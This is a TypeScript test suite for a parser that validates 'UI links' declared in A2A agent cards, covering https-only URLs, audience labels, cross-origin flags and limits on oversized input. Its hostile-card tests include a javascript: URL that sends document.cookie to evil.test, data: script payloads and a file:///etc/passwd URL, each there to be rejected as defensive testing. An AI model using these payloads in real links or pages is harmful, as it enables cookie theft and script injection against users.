import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { uiLinksExtensionUri as cardUiLinksUri, validateAgentCard } from '../../../src/shared/agentcall/card';
import {
  displayText,
  hiddenUiLinkCount,
  parseUiLinks,
  uiLinkHost,
  uiLinksExtensionUri,
  uiLinksLimits,
  uiLinksProblemCodes,
  visibleUiLinks,
  type UiLinksResult,
} from '../../../src/shared/agentmesh/ui-links';

const cardUrl = 'https://agent.example/.well-known/agent-card.json';
const uisPath = '/capabilities/extensions/0/params/uis';

/** An A2A card whose only extension is a UI links declaration with `uis` (or the given declaration fields). */
function cardWith(uis: unknown, declaration: Record<string, unknown> = {}, rest: Record<string, unknown> = {}) {
  return {
    name: 'Workshop agent',
    description: 'test',
    version: '1.0.0',
    capabilities: { extensions: [{ uri: uiLinksExtensionUri, required: false, params: { uis }, ...declaration }] },
    skills: [{ id: 'identify', name: 'Identify', description: 'Identifies.', tags: [] }],
    ...rest,
  };
}

const parse = (card: unknown, url = cardUrl): UiLinksResult => parseUiLinks(card, { cardUrl: url });
const one = (entry: unknown) => parse(cardWith([entry]));
const codes = (result: UiLinksResult) => result.problems.map((problem) => problem.code);

describe('the extension URI', () => {
  it('is the AgentMesh UI links 0.1 §2 identifier, shared with the AgentCall card validator', () => {
    expect(uiLinksExtensionUri).toBe('https://dev.agentmesh.ai/extensions/ui-links/v1');
    expect(uiLinksExtensionUri).toBe(cardUiLinksUri);
  });

  it('is matched exactly: another version, a trailing slash or a different case is not a declaration', () => {
    for (const uri of [
      'https://dev.agentmesh.ai/extensions/ui-links/v2',
      `${uiLinksExtensionUri}/`,
      uiLinksExtensionUri.toUpperCase(),
      'http://dev.agentmesh.ai/extensions/ui-links/v1',
    ]) {
      expect(parse(cardWith([{ url: 'https://agent.example/a', label: 'A' }], { uri }))).toEqual({ declared: false, links: [], problems: [] });
    }
  });
});

describe('a card without the extension', () => {
  it('is silent, not negative: declared false, no links, no problems, whatever the card is', () => {
    const silent = { declared: false, links: [], problems: [] };
    expect(parse(null)).toEqual(silent);
    expect(parse('card')).toEqual(silent);
    expect(parse({})).toEqual(silent);
    expect(parse({ capabilities: 'x' })).toEqual(silent);
    expect(parse({ capabilities: { extensions: {} } })).toEqual(silent);
    expect(parse({ capabilities: { extensions: [null, 3, { uri: 'https://other.example/ext', required: true }] } })).toEqual(silent);
  });
});

describe('AgentMesh UI links 0.1 §3 the declaration', () => {
  it('reads the AgentMesh UI links 0.1 §3 example entry with every field', () => {
    const example = {
      url: 'https://agent.example/reports',
      label: 'Reports',
      purpose: 'Download the outputs of completed work.',
      audience: 'client',
      access: 'authenticated',
      kind: 'reports',
      skill: 'some-declared-skill-id',
    };
    const card = cardWith(
      [example],
      { description: "Web surfaces this agent's publisher offers to people" },
      {
        skills: [{ id: 'some-declared-skill-id', name: 'S', description: 'S', tags: [] }],
      },
    );
    expect(parse(card)).toEqual({
      declared: true,
      links: [{ ...example, crossOrigin: false, shownByDefault: true, notes: [], path: `${uisPath}/0` }],
      problems: [],
    });
  });

  it('rule 1: required true is ignored with a note, and the entries are still read', () => {
    const result = parse(cardWith([{ url: 'https://agent.example/a', label: 'A', audience: 'public' }], { required: true }));
    expect(result.links).toHaveLength(1);
    expect(result.problems).toEqual([
      { code: 'ui_links_marked_required', path: '/capabilities/extensions/0/required', message: expect.stringContaining('ignored') },
    ]);
    const odd = parse(cardWith([{ url: 'https://agent.example/a', label: 'A', audience: 'public' }], { required: 'yes' }));
    expect(odd.links).toHaveLength(1);
    expect(codes(odd)).toEqual(['ui_links_required_invalid']);
    expect(codes(parse(cardWith([{ url: 'https://agent.example/a', label: 'A', audience: 'public' }], { required: false })))).toEqual([]);
  });

  it('rule 2: params.uis is required and not empty (declared, no links, one problem)', () => {
    const cases: [Record<string, unknown>, string, string][] = [
      [{ params: undefined }, 'ui_links_params_missing', '/capabilities/extensions/0/params'],
      [{ params: [] }, 'ui_links_params_invalid', '/capabilities/extensions/0/params'],
      [{ params: {} }, 'ui_links_uis_missing', uisPath],
      [{ params: { uis: { url: 'https://agent.example/a', label: 'A' } } }, 'ui_links_uis_invalid', uisPath],
      [{ params: { uis: [] } }, 'ui_links_uis_empty', uisPath],
    ];
    for (const [declaration, code, path] of cases) {
      const result = parse(cardWith(undefined, declaration));
      expect(result).toEqual({ declared: true, links: [], problems: [{ code, path, message: expect.any(String) }] });
    }
  });

  it('finds the declaration anywhere among the extensions; a second declaration is ignored with a note', () => {
    const card = {
      capabilities: {
        extensions: [
          { uri: 'https://agentcall.smartycode.com/ext/agentcall-agui/0.1', params: {} },
          { uri: uiLinksExtensionUri, params: { uis: [{ url: 'https://agent.example/first', label: 'First', audience: 'public' }] } },
          { uri: uiLinksExtensionUri, params: { uis: [{ url: 'https://agent.example/second', label: 'Second', audience: 'public' }] } },
        ],
      },
    };
    const result = parse(card);
    expect(result.links.map((link) => link.label)).toEqual(['First']);
    expect(result.links[0]!.path).toBe('/capabilities/extensions/1/params/uis/0');
    expect(result.problems).toEqual([
      { code: 'ui_links_duplicate_extension', path: '/capabilities/extensions/2', message: expect.stringContaining('index 1') },
    ]);
  });

  it('rule 3: url and label are required; an entry without either is skipped with a problem at its path', () => {
    const result = parse(
      cardWith([
        'https://agent.example/a',
        null,
        { label: 'No url' },
        { url: 'https://agent.example/no-label' },
        { url: 'https://agent.example/number-label', label: 7 },
        { url: 'https://agent.example/blank-label', label: ' \n\t\u200b ' },
        { url: 42, label: 'Number url' },
        { url: 'not a url', label: 'Relative' },
        { url: '/reports', label: 'Relative path' },
        { url: 'https://agent.example/kept', label: 'Kept', audience: 'public' },
      ]),
    );
    expect(result.links.map((link) => link.url)).toEqual(['https://agent.example/kept']);
    expect(result.problems.map(({ code, path }) => ({ code, path }))).toEqual([
      { code: 'ui_link_not_object', path: `${uisPath}/0` },
      { code: 'ui_link_not_object', path: `${uisPath}/1` },
      { code: 'ui_link_url_missing', path: `${uisPath}/2/url` },
      { code: 'ui_link_label_missing', path: `${uisPath}/3/label` },
      { code: 'ui_link_label_invalid', path: `${uisPath}/4/label` },
      { code: 'ui_link_label_invalid', path: `${uisPath}/5/label` },
      { code: 'ui_link_url_invalid', path: `${uisPath}/6/url` },
      { code: 'ui_link_url_invalid', path: `${uisPath}/7/url` },
      { code: 'ui_link_url_invalid', path: `${uisPath}/8/url` },
    ]);
  });

  it('rule 3: only https URLs; javascript:, data:, http:, file:, ftp:, ws: and credentials are skipped', () => {
    const refused = [
      ['javascript:alert(document.cookie)', 'ui_link_url_not_https'],
      ['  JavaScript:alert(1)', 'ui_link_url_not_https'],
      ['data:text/html,<script>alert(1)</script>', 'ui_link_url_not_https'],
      ['http://agent.example/reports', 'ui_link_url_not_https'],
      ['http://127.0.0.1:8080/ui/status', 'ui_link_url_not_https'],
      ['file:///etc/passwd', 'ui_link_url_not_https'],
      ['ftp://agent.example/', 'ui_link_url_not_https'],
      ['wss://agent.example/', 'ui_link_url_not_https'],
      ['https://user:secret@agent.example/', 'ui_link_url_credentials'],
      ['https://user@agent.example/', 'ui_link_url_credentials'],
      [`https://agent.example/${'a'.repeat(uiLinksLimits.urlChars)}`, 'ui_link_url_too_long'],
    ] as const;
    const result = parse(cardWith(refused.map(([url]) => ({ url, label: 'Page', audience: 'public' }))));
    expect(result.links).toEqual([]);
    expect(codes(result)).toEqual(refused.map(([, code]) => code));
    expect(result.problems[0]!.message).toContain('javascript:');
    expect(result.problems[3]!.message).toContain('also under the development setting');
    // Messages never echo a credential.
    expect(result.problems.map((problem) => problem.message).join('\n')).not.toContain('secret');
  });

  it('rule 3: keeps the parsed URL (what is shown is what opens) and cleans the label for link text', () => {
    const [link] = one({ url: 'https://BÜCHER.example/a b?x=1#top', label: '  Pay\u202Eroll\n\treports\u0000 ', audience: 'public' }).links;
    expect(link).toMatchObject({ url: 'https://xn--bcher-kva.example/a%20b?x=1#top', label: 'Payroll reports', crossOrigin: true });
  });

  it('rule 3: a label longer than the limit is shortened with a note, not refused', () => {
    const long = 'L'.repeat(uiLinksLimits.labelChars + 1);
    const result = one({ url: 'https://agent.example/a', label: long, audience: 'public' });
    expect(result.links[0]!.label).toBe(`${'L'.repeat(uiLinksLimits.labelChars - 1)}…`);
    expect(result.links[0]!.notes).toEqual([expect.stringContaining('shortened')]);
    expect(codes(result)).toEqual(['ui_link_label_truncated']);
    // Exactly at the limit: kept whole.
    expect(one({ url: 'https://agent.example/a', label: 'L'.repeat(uiLinksLimits.labelChars), audience: 'public' }).links[0]!.label).toHaveLength(
      uiLinksLimits.labelChars,
    );
  });

  it('rule 4: purpose is optional text, cleaned and bounded; a non-text purpose is left out with a note', () => {
    expect(one({ url: 'https://agent.example/a', label: 'A', audience: 'public' }).links[0]).not.toHaveProperty('purpose');
    expect(one({ url: 'https://agent.example/a', label: 'A', audience: 'public', purpose: 'See\nthings.' }).links[0]!.purpose).toBe('See things.');
    const bad = one({ url: 'https://agent.example/a', label: 'A', audience: 'public', purpose: { html: '<b>' } });
    expect(bad.links[0]).not.toHaveProperty('purpose');
    expect(codes(bad)).toEqual(['ui_link_purpose_invalid']);
    const long = one({ url: 'https://agent.example/a', label: 'A', audience: 'public', purpose: 'p'.repeat(5000) });
    expect(long.links[0]!.purpose).toHaveLength(uiLinksLimits.purposeChars);
    expect(codes(long)).toEqual(['ui_link_purpose_truncated']);
  });

  it('rule 5: public and client are shown, operator is not shown by default, a missing audience is "not stated", never public', () => {
    const result = parse(
      cardWith([
        { url: 'https://agent.example/public', label: 'Public', audience: 'public' },
        { url: 'https://agent.example/client', label: 'Client', audience: 'client' },
        { url: 'https://agent.example/operator', label: 'Operator', audience: 'operator' },
        { url: 'https://agent.example/unstated', label: 'Unstated' },
        { url: 'https://agent.example/odd', label: 'Odd', audience: 'Public' },
        { url: 'https://agent.example/array', label: 'Array', audience: ['public'] },
      ]),
    );
    expect(result.links.map(({ label, audience, shownByDefault }) => ({ label, audience, shownByDefault }))).toEqual([
      { label: 'Public', audience: 'public', shownByDefault: true },
      { label: 'Client', audience: 'client', shownByDefault: true },
      { label: 'Operator', audience: 'operator', shownByDefault: false },
      { label: 'Unstated', audience: 'unstated', shownByDefault: true },
      { label: 'Odd', audience: 'unstated', shownByDefault: true },
      { label: 'Array', audience: 'unstated', shownByDefault: true },
    ]);
    expect(result.links[3]!.notes).toEqual(['Audience not stated (not the same as public).']);
    expect(result.problems.map(({ code, path }) => ({ code, path }))).toEqual([
      { code: 'ui_link_audience_unstated', path: `${uisPath}/3/audience` },
      { code: 'ui_link_audience_unknown', path: `${uisPath}/4/audience` },
      { code: 'ui_link_audience_unknown', path: `${uisPath}/5/audience` },
    ]);
    // AgentMesh UI links 0.1 §4: operator is a label, not secrecy: the entry is there, only not shown by default.
    expect(visibleUiLinks(result.links, { showOperator: false }).map((link) => link.label)).toEqual(['Public', 'Client', 'Unstated', 'Odd', 'Array']);
    expect(visibleUiLinks(result.links, { showOperator: true })).toHaveLength(6);
    expect(hiddenUiLinkCount(result.links)).toBe(1);
  });

  it('rule 6: access open or authenticated is kept as a label; anything else is left out with a note', () => {
    const result = parse(
      cardWith([
        { url: 'https://agent.example/open', label: 'Open', audience: 'public', access: 'open' },
        { url: 'https://agent.example/auth', label: 'Auth', audience: 'public', access: 'authenticated' },
        { url: 'https://agent.example/safe', label: 'Safe', audience: 'public', access: 'verified-safe' },
        { url: 'https://agent.example/none', label: 'None', audience: 'public' },
      ]),
    );
    expect(result.links.map((link) => link.access)).toEqual(['open', 'authenticated', undefined, undefined]);
    expect(result.links[3]).not.toHaveProperty('access');
    expect(result.problems.map(({ code, path }) => ({ code, path }))).toEqual([{ code: 'ui_link_access_unknown', path: `${uisPath}/2/access` }]);
  });

  it('rule 7: an unknown kind is kept as-is and never refuses the entry; a non-text kind is left out, the entry kept', () => {
    const result = parse(
      cardWith([
        { url: 'https://agent.example/a', label: 'A', audience: 'public', kind: 'status' },
        { url: 'https://agent.example/b', label: 'B', audience: 'public', kind: 'kanban-board' },
        { url: 'https://agent.example/c', label: 'C', audience: 'public', kind: 12 },
      ]),
    );
    expect(result.links.map((link) => link.kind)).toEqual(['status', 'kanban-board', undefined]);
    expect(codes(result)).toEqual(['ui_link_kind_invalid']);
  });

  it('rule 8: a skill that matches a declared skill id is kept quietly; a dangling one is kept with a note', () => {
    const result = parse(
      cardWith([
        { url: 'https://agent.example/a', label: 'A', audience: 'public', skill: 'identify' },
        { url: 'https://agent.example/b', label: 'B', audience: 'public', skill: 'teleport' },
        { url: 'https://agent.example/c', label: 'C', audience: 'public', skill: ['identify'] },
      ]),
    );
    expect(result.links.map((link) => link.skill)).toEqual(['identify', 'teleport', undefined]);
    expect(result.links[0]!.notes).toEqual([]);
    expect(result.links[1]!.notes).toEqual([expect.stringContaining('"teleport"')]);
    expect(result.problems.map(({ code, path }) => ({ code, path }))).toEqual([
      { code: 'ui_link_skill_dangling', path: `${uisPath}/1/skill` },
      { code: 'ui_link_skill_invalid', path: `${uisPath}/2/skill` },
    ]);
    // A card without a skills list: every reference dangles.
    const bare = parse({
      capabilities: {
        extensions: [{ uri: uiLinksExtensionUri, params: { uis: [{ url: 'https://agent.example/a', label: 'A', audience: 'public', skill: 'identify' }] } }],
      },
    });
    expect(codes(bare)).toEqual(['ui_link_skill_dangling']);
  });

  it('ignores unknown fields: they never grant anything (no declared "sameOrigin", no "embed")', () => {
    const [link] = one({
      url: 'https://status.example/',
      label: 'S',
      audience: 'public',
      sameOrigin: true,
      embed: true,
      screenshot: 'data:image/png;base64,AA',
    }).links;
    expect(link).toEqual({
      url: 'https://status.example/',
      label: 'S',
      audience: 'public',
      crossOrigin: true,
      shownByDefault: true,
      notes: [],
      path: `${uisPath}/0`,
    });
  });
});

describe("AgentMesh UI links 0.1 §6 same-origin, computed against the card's own origin", () => {
  const entries = [
    { url: 'https://agent.example/same', label: 'Same', audience: 'public' },
    { url: 'https://agent.example:443/default-port', label: 'Default port', audience: 'public' },
    { url: 'https://AGENT.example/case', label: 'Case', audience: 'public' },
    { url: 'https://agent.example:8443/port', label: 'Port', audience: 'public' },
    { url: 'https://status.agent.example/', label: 'Subdomain', audience: 'public' },
    { url: 'https://agent.example.evil.test/', label: 'Lookalike', audience: 'public' },
  ];

  it('flags a different host, port or subdomain, not a spelling of the same origin', () => {
    const result = parse(cardWith(entries));
    expect(result.links.map((link) => [link.label, link.crossOrigin])).toEqual([
      ['Same', false],
      ['Default port', false],
      ['Case', false],
      ['Port', true],
      ['Subdomain', true],
      ['Lookalike', true],
    ]);
    expect(uiLinkHost(result.links[3]!)).toBe('agent.example:8443');
  });

  it('an http card origin (the development setting) makes every https entry cross-origin', () => {
    const result = parse(cardWith(entries), 'http://agent.example/.well-known/agent-card.json');
    expect(result.links.every((link) => link.crossOrigin)).toBe(true);
  });

  it('an unusable card URL flags every entry, with a problem', () => {
    const result = parse(cardWith(entries), 'not a url');
    expect(result.links.every((link) => link.crossOrigin)).toBe(true);
    expect(codes(result)).toEqual(['ui_links_card_url_invalid']);
  });
});

describe("AgentMesh UI links 0.1 §11 worked example (test/fixtures/agentmesh/worked-example.json, the spec's extension verbatim)", () => {
  const card: unknown = JSON.parse(readFileSync(new URL('../../fixtures/agentmesh/worked-example.json', import.meta.url), 'utf8'));
  const result = parseUiLinks(card, { cardUrl: 'https://agent.larkfield.example/.well-known/agent-card.json' });

  it('is a valid A2A card around the example', () => {
    expect(validateAgentCard(card, { allowLocalHttp: false })).toMatchObject({ ok: true, kind: 'a2a' });
  });

  it('reads all three entries without a problem (run-payroll is a declared skill)', () => {
    expect(result.declared).toBe(true);
    expect(result.problems).toEqual([]);
    expect(
      result.links.map(({ label, audience, access, kind, skill, crossOrigin, shownByDefault, notes }) => ({
        label,
        audience,
        access,
        kind,
        skill,
        crossOrigin,
        shownByDefault,
        notes,
      })),
    ).toEqual([
      {
        label: 'Operations dashboard',
        audience: 'operator',
        access: 'authenticated',
        kind: 'dashboard',
        skill: undefined,
        crossOrigin: false,
        shownByDefault: false,
        notes: [],
      },
      {
        label: 'Payroll reports',
        audience: 'client',
        access: 'authenticated',
        kind: 'reports',
        skill: 'run-payroll',
        crossOrigin: false,
        shownByDefault: true,
        notes: [],
      },
      { label: 'Service status', audience: 'public', access: 'open', kind: 'status', skill: undefined, crossOrigin: true, shownByDefault: true, notes: [] },
    ]);
  });

  it('shows Payroll reports and Service status, keeps Operations dashboard behind operator, flags the status page as another site', () => {
    expect(visibleUiLinks(result.links, { showOperator: false }).map((link) => link.label)).toEqual(['Payroll reports', 'Service status']);
    expect(visibleUiLinks(result.links, { showOperator: true }).map((link) => link.label)).toEqual([
      'Operations dashboard',
      'Payroll reports',
      'Service status',
    ]);
    expect(result.links.filter((link) => link.crossOrigin).map((link) => uiLinkHost(link))).toEqual(['status.larkfield.example']);
  });
});

describe('a hostile card', () => {
  it('skips javascript:, data: and http: entries and keeps the honest one', () => {
    const result = parse(
      cardWith([
        { url: 'javascript:fetch("https://evil.test/?c="+document.cookie)', label: 'Click me', audience: 'public' },
        { url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', label: 'Data', audience: 'public' },
        { url: 'http://agent.example/login', label: 'Sign in', audience: 'public' },
        { url: 'https://agent.example/ok', label: 'OK', audience: 'public' },
      ]),
    );
    expect(result.links.map((link) => link.url)).toEqual(['https://agent.example/ok']);
    expect(codes(result)).toEqual(['ui_link_url_not_https', 'ui_link_url_not_https', 'ui_link_url_not_https']);
  });

  it('reads only the first 100 of 10,000 entries and says how many were ignored', () => {
    const uis = Array.from({ length: 10_000 }, (_, index) => ({ url: `https://agent.example/page/${index}`, label: `Page ${index}` }));
    const result = parse(cardWith(uis));
    expect(result.links).toHaveLength(uiLinksLimits.entries);
    expect(result.links.at(-1)!.url).toBe('https://agent.example/page/99');
    // 100 "audience not stated" notes fill the list; the ignored-entries problem is then counted, not listed.
    expect(result.problems.length).toBeLessThanOrEqual(uiLinksLimits.problems + 1);
    expect(result.problems.at(-1)).toEqual({ code: 'ui_links_problems_truncated', path: '', message: expect.stringContaining('1 more') });

    const quiet = parse(cardWith(uis.map((entry) => ({ ...entry, audience: 'public' }))));
    expect(quiet.links).toHaveLength(uiLinksLimits.entries);
    expect(quiet.problems).toEqual([{ code: 'ui_links_entries_truncated', path: uisPath, message: expect.stringContaining('9900 ignored') }]);
  });

  it('bounds the problems of 10,000 broken entries', () => {
    const uis = Array.from({ length: 10_000 }, () => ({ url: 'javascript:void(0)', label: 'x', audience: 'nobody', access: 'maybe', kind: 1, skill: 'none' }));
    const result = parse(cardWith(uis));
    expect(result.links).toEqual([]);
    expect(result.problems).toHaveLength(uiLinksLimits.problems + 1);
    expect(result.problems.at(-1)!.code).toBe('ui_links_problems_truncated');
  });

  it('looks at only the first 64 extensions', () => {
    const extensions = [
      ...Array.from({ length: 5_000 }, (_, index) => ({ uri: `https://x.example/${index}` })),
      { uri: uiLinksExtensionUri, params: { uis: [{ url: 'https://agent.example/a', label: 'A' }] } },
    ];
    const result = parse({ capabilities: { extensions } });
    expect(result).toEqual({
      declared: false,
      links: [],
      problems: [{ code: 'ui_links_extensions_truncated', path: '/capabilities/extensions', message: expect.stringContaining('5001') }],
    });
  });

  it('shortens 1 MB labels, purposes and kinds to bounded text, and refuses a 1 MB url before parsing it', () => {
    const megabyte = 'A'.repeat(1024 * 1024);
    const invisibleMegabyte = '\u202e'.repeat(1024 * 1024);
    const result = parse(
      cardWith(
        Array.from({ length: 50 }, (_, index) => ({
          url: `https://agent.example/${index}`,
          label: index % 2 === 0 ? megabyte : `${invisibleMegabyte}Label ${index}`,
          purpose: megabyte,
          kind: megabyte,
          audience: 'public',
        })).concat([{ url: `https://agent.example/${megabyte}`, label: 'Long url', purpose: '', kind: 'status', audience: 'public' }]),
      ),
    );
    expect(result.links).toHaveLength(50);
    for (const link of result.links) {
      expect(link.label.length).toBeLessThanOrEqual(uiLinksLimits.labelChars);
      expect(link.purpose!.length).toBeLessThanOrEqual(uiLinksLimits.purposeChars);
      expect(link.kind!.length).toBeLessThanOrEqual(uiLinksLimits.kindChars);
    }
    expect(result.links[1]!.label).toBe('Label 1');
    expect(result.problems.length).toBeLessThanOrEqual(uiLinksLimits.problems + 1);
    // Nothing in the output grows with the input.
    expect(JSON.stringify(result).length).toBeLessThan(200_000);
    const longUrl = parse(cardWith([{ url: `https://agent.example/${megabyte}`, label: 'Long url', audience: 'public' }]));
    expect(longUrl.problems).toEqual([{ code: 'ui_link_url_too_long', path: `${uisPath}/0/url`, message: expect.stringContaining(`${1024 * 1024 + 22}`) }]);
  });

  it('keeps problem messages short whatever the card quotes', () => {
    const result = one({ url: `not a url ${'x'.repeat(100_000)}`, label: 'x' });
    expect(result.problems[0]!.message.length).toBeLessThan(200);
  });
});

describe('displayText', () => {
  it('removes bidi overrides and zero-width characters, turns controls and runs of white space into one space', () => {
    expect(displayText('\u200b a\u202e\u2066b\r\n\u00a0c\u0007d \ufeff', 10)).toEqual({ text: 'ab c d', truncated: false });
  });

  it('never splits a surrogate pair when it shortens', () => {
    expect(displayText('ab😀😀', 4)).toEqual({ text: 'ab…', truncated: true });
    expect(displayText('ab😀', 4)).toEqual({ text: 'ab😀', truncated: false });
  });

  it('does not count trailing white space as more text', () => {
    expect(displayText(`abc${' '.repeat(10_000)}`, 3)).toEqual({ text: 'abc', truncated: false });
  });
});

describe('problem codes', () => {
  it('every code the parser can report is in uiLinksProblemCodes', () => {
    const seen = new Set<string>();
    const collect = (result: UiLinksResult) => result.problems.forEach((problem) => seen.add(problem.code));
    collect(
      parse(
        cardWith([{ url: 'https://agent.example/a', label: 'L'.repeat(500), purpose: 5, audience: 'x', access: 'y', kind: 'k'.repeat(100), skill: 'nope' }], {
          required: true,
        }),
      ),
    );
    collect(parse(cardWith([{ url: 'https://agent.example/a', label: 'A', purpose: 'p'.repeat(400), kind: [], skill: 3 }])));
    for (const code of seen) expect(uiLinksProblemCodes).toContain(code);
    expect(seen.size).toBeGreaterThanOrEqual(10);
  });
});
